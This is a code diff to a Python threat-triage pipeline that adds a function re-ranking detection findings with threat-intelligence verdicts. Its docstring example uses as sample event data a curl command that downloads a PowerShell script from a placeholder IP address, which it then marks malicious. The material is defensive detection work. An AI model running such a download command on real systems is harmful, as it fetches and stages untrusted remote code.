@@ -356,6 +356,54 @@ def run_triage(
     )
 
 
+def rerank_findings(
+    result: TriageResult,
+    *,
+    ti_verdicts: pd.DataFrame | None = None,
+    options: TriageOptions | None = None,
+) -> TriageResult:
+    """The result with its findings ranked again, now knowing threat-intelligence verdicts.
+
+    Threat intelligence is asked about the triage's own indicators, so it answers after the
+    first ranking: this ranks again with the verdicts (``known_good`` and GreyNoise-benign
+    answers demote, malicious ones promote), keeping the Sigma matches and every other input.
+
+    Args:
+        result: a :func:`run_triage` result.
+        ti_verdicts: the verdicts (:data:`TI_VERDICT_COLUMNS`).
+        options: the options the triage ran with (the default options if not given).
+
+    Example:
+        >>> from asisdk.pipeline import load_frame, run_triage
+        >>> import pandas as pd
+        >>> events = pd.DataFrame({"CommandLine": ["curl http://203.0.113.7/a.ps1 -o a.ps1"]})
+        >>> first = run_triage(load_frame(events))
+        >>> verdicts = pd.DataFrame({"value": ["http://203.0.113.7/a.ps1"],
+        ...     "verdict": ["malicious"], "severity": [90]})
+        >>> again = rerank_findings(first, ti_verdicts=verdicts)
+        >>> "threat_intel" in again.findings["reason_kinds"].iloc[0]
+        True
+    """
+    opts = options or TriageOptions()
+    findings, reasons = build_findings(
+        result.events,
+        decoded=result.decoded,
+        ioc_hits=result.ioc_hits,
+        iocs=result.iocs,
+        host_column=result.columns.host,
+        time_column=result.columns.time,
+        sigma_matches=result.sigma_matches,
+        ti_verdicts=ti_verdicts,
+        allow=opts.allow,
+        weights=opts.weights,
+        min_level=opts.min_level,
+        rare_min_events=opts.rare_min_events,
+        rare_share=opts.rare_share,
+        text_columns=result.columns.text,
+    )
+    return attrs.evolve(result, findings=findings, finding_reasons=reasons)
+
+
 _SIGMA_ALIASES: dict[str, str] = {
     "index": "event_index",
     "src_index": "event_index",
